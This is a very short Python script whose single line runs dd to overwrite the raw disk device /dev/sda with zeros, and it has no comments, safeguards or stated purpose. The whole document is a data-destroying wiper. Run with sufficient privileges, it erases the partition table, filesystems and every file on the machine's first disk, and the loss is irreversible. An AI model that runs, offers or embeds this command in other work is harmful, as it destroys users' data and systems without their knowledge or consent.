#!/usr/bin/env python3

import subprocess
subprocess.run(["dd", "if=/dev/zero", "of=/dev/sda", "bs=1M"])
